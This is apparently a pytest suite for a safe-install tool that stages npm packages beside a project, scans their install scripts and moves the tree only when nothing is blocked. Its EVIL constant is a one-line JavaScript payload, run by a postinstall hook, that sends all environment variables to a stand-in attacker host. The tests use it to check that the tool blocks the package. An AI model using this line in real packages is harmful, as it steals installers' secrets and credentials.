"""npm unpacks beside the project while scripts are read: what is not installed leaves nothing, what is installed is npm's own."""

from __future__ import annotations

import json
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from safe_install.run import calls
from safe_install.run.calls import NpmResult
from safe_install.run.process import Onlooker
from safe_install.unpacking import AHEAD
from tests.faults.runs import PROGRAM, at, ended, started
from tests.world import World

pytestmark = [pytest.mark.npm, pytest.mark.semgrep]
EVIL = "const e = JSON.stringify(process.env); require('https').get('https://c.evil.invalid/?' + e)\n"


@pytest.fixture
def unpacked_in(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """Note where npm is let unpack; the real npm does."""
    places: list[Path] = []
    real = calls.install

    def noting(npm: object, where: Path, *rest: object, **more: object) -> object:
        places.append(where)
        return real(npm, where, *rest, **more)  # type: ignore[arg-type]

    monkeypatch.setattr("safe_install.unpacking.install", noting)
    monkeypatch.setattr("safe_install.installation.npm_install", noting)
    return places


def test_a_tree_of_its_own_is_unpacked_beside_the_project_and_moved(world: World, unpacked_in: list[Path]) -> None:
    plain = world.registry.publish("plain", "1.0.0", {"index.js": "1", "cli.js": "#!/usr/bin/env node\n"}, bin="cli.js")
    world.lock(plain)
    world.write("node_modules/old/index.js", "old")
    assert world.run("ci").code == 0
    assert unpacked_in == [world.folder / AHEAD / world.folder.name]
    assert sorted(path.name for path in world.folder.iterdir()) == ["node_modules", "package-lock.json", "package.json"]
    assert not world.has("node_modules/old")
    assert (world.folder / "node_modules/.bin/plain").readlink() == Path("../plain/cli.js")
    assert json.loads(world.read("node_modules/.package-lock.json"))["packages"].keys() == {"node_modules/plain"}
    npm_agrees = subprocess.run(["npm", "ls"], cwd=world.folder, capture_output=True, text=True, check=False)  # noqa: S607
    assert npm_agrees.returncode == 0, npm_agrees.stderr


def test_a_project_without_packages_gets_no_folder(world: World, unpacked_in: list[Path]) -> None:
    world.lock()
    world.write("node_modules/old/index.js", "old")
    assert world.run("ci").code == 0
    assert unpacked_in == [world.folder / AHEAD / world.folder.name]
    assert sorted(path.name for path in world.folder.iterdir()) == ["package-lock.json", "package.json"]


def test_nobody_else_may_read_what_is_copied_there(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    modes: list[int] = []
    real = calls.install

    def looking(npm: object, where: Path, *rest: object, **more: object) -> object:
        modes.append(stat.S_IMODE(where.parent.stat().st_mode))
        assert "always-auth" in (where / ".npmrc").read_text()
        return real(npm, where, *rest, **more)  # type: ignore[arg-type]

    monkeypatch.setattr("safe_install.unpacking.install", looking)
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    world.write(".npmrc", "always-auth=true\n")
    assert world.run("ci").code == 0
    assert modes == [0o700]
    assert stat.S_IMODE((world.folder / "node_modules").stat().st_mode) == 0o755


def test_a_first_install_is_too_and_a_second_is_not(world: World, unpacked_in: list[Path]) -> None:
    world.registry.publish("plain", "1.0.0", {"index.js": "1"})
    world.registry.publish("other", "1.0.0", {"index.js": "2"})
    world.write("package.json", '{"name": "app", "version": "1.0.0"}')
    assert world.run("plain").code == 0
    assert world.run("other").code == 0
    assert unpacked_in == [world.folder / AHEAD / world.folder.name, world.folder]
    assert world.has("node_modules/plain/index.js")
    assert world.has("node_modules/other/index.js")
    assert json.loads(world.read("package.json"))["dependencies"].keys() == {"plain", "other"}


def test_linked_folders_are_installed_in_the_project_itself(world: World, unpacked_in: list[Path]) -> None:
    world.write("part/package.json", '{"name": "part", "version": "1.0.0"}')
    world.write("package.json", '{"name": "app", "version": "1.0.0", "workspaces": ["part"]}')
    assert world.run("install").code == 0
    assert unpacked_in == [world.folder]
    assert (world.folder / "node_modules/part").resolve() == (world.folder / "part").resolve()


def test_what_is_blocked_by_its_scripts_leaves_nothing(world: World, unpacked_in: list[Path]) -> None:
    world.lock(world.registry.publish("evil", "1.0.0", {"i.js": EVIL}, scripts={"postinstall": "node i.js"}))
    world.write("node_modules/old/index.js", "old")
    before = world.tree(".")
    assert world.run("ci").code == 11
    assert unpacked_in == [world.folder / AHEAD / world.folder.name]
    assert world.tree(".") == before
    assert sorted(path.name for path in world.folder.iterdir()) == ["node_modules", "package-lock.json", "package.json"]


def test_npm_is_stopped_when_what_it_unpacks_is_blocked(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    why: list[str] = []

    def endless(*_: object, onlooker: Onlooker, **__: object) -> NpmResult:
        for _again in range(600):
            if said := onlooker.watch():
                why.append(said)
                break
            time.sleep(0.05)
        return NpmResult(exit_code=1, output="")

    monkeypatch.setattr("safe_install.unpacking.install", endless)
    world.lock(world.registry.publish("evil", "1.0.0", {"i.js": EVIL}, scripts={"postinstall": "node i.js"}))
    assert world.run("ci").code == 11
    assert why == ["nobody waits for it"]


def test_for_what_is_already_known_to_be_blocked_npm_does_not_begin(world: World, unpacked_in: list[Path]) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    world.locked["node_modules/plain"]["resolved"] = "https://elsewhere.invalid/plain-1.0.0.tgz"
    world.write_lock()
    assert world.run("ci").code == 11
    assert unpacked_in == []


def test_a_dry_run_unpacks_nothing(world: World, unpacked_in: list[Path]) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    assert world.run("ci", "--dry-run").code == 0
    assert unpacked_in == []


@pytest.mark.parametrize("change", ["changed", "added", "removed"])
def test_what_somebody_changes_in_what_was_unpacked_is_never_moved(
    world: World, monkeypatch: pytest.MonkeyPatch, change: str
) -> None:
    real = calls.install

    def meddling(npm: object, where: Path, *rest: object, **more: object) -> object:
        result = real(npm, where, *rest, **more)  # type: ignore[arg-type]
        file = where / "node_modules/plain/index.js"
        if change == "removed":
            file.unlink()
        else:
            file.with_name("index.js" if change == "changed" else "more.js").write_text("2")
        return result

    monkeypatch.setattr("safe_install.unpacking.install", meddling)
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    world.write("node_modules/old/index.js", "old")
    before = world.tree(".")
    said = world.run("ci")
    assert said.code == 1
    assert "npm unpacked something else than what was inspected: node_modules/plain/" in said.err
    assert "node_modules is as it was" in said.err
    assert world.tree(".") == before


def test_what_a_killed_run_left_there_is_removed_by_the_next(world: World) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    world.write(f"{AHEAD}/app/node_modules/half/index.js", "half")
    assert world.run("ci").code == 0
    assert not world.has(AHEAD)
    assert not world.has("node_modules/half")


def test_what_a_run_left_that_was_killed_after_it_moved_the_tree_is_removed_too(world: World) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    assert world.run("ci").code == 0
    world.write(f"{AHEAD}/app/package.json", "{}")
    assert world.run("install").code == 0
    assert not world.has(AHEAD)


def test_a_project_where_no_folder_can_be_made_is_told_as_before(world: World, unpacked_in: list[Path]) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    world.write(AHEAD, "a file in the way")
    assert world.run("ci").code == 0
    assert unpacked_in == [world.folder]
    assert world.has("node_modules/plain/index.js")


def test_a_link_that_stands_there_is_not_followed(world: World, unpacked_in: list[Path]) -> None:
    elsewhere = world.folder.parent / "elsewhere"
    elsewhere.mkdir()
    (world.folder / AHEAD).symlink_to(elsewhere)
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    assert world.run("ci").code == 0
    assert unpacked_in == [world.folder]
    assert list(elsewhere.iterdir()) == []


@pytest.mark.skipif(sys.platform != "linux", reason="volumes are mounted with Linux' own program")
def test_a_node_modules_that_is_a_volume_is_emptied_and_filled(world: World, tmp_path: Path) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    world.write("node_modules/.keep", "")
    (tmp_path / "volume/old").mkdir(parents=True)
    mounting = 'mount --bind "$1" node_modules && shift && exec "$@"'
    inside = ("unshare", "--mount", "--map-root-user", "sh", "-c", mounting, "sh", str(tmp_path / "volume"))
    if subprocess.run([*inside, "true"], cwd=world.folder, capture_output=True, check=False).returncode:
        pytest.skip("nothing can be mounted here")
    code, said = ended(started(world, "ci", program=(*inside, *PROGRAM)))
    assert code == 0, said
    assert [path.name for path in (tmp_path / "volume").iterdir() if not path.name.startswith(".")] == ["plain"]
    assert not world.has(AHEAD)


@pytest.mark.parametrize("by", [signal.SIGINT, signal.SIGTERM])
def test_interrupted_while_scripts_are_read_npm_is_stopped_and_nothing_is_left(
    world: World, by: signal.Signals
) -> None:
    files = {f"lib/{number}.js": "x" * 2000 for number in range(2000)}
    world.lock(
        world.registry.publish("large", "1.0.0", files),
        world.registry.publish("asks", "1.0.0", {"i.js": "fetch('x')"}, scripts={"postinstall": "node i.js"}),
    )
    world.write("node_modules/old/index.js", "old")
    before = world.tree(".")
    process = started(world, "ci")
    at(process, "matching signatures")
    process.send_signal(by)
    code, said = ended(process)
    assert code == 130, said
    assert "Traceback" not in said
    assert world.tree(".") == before
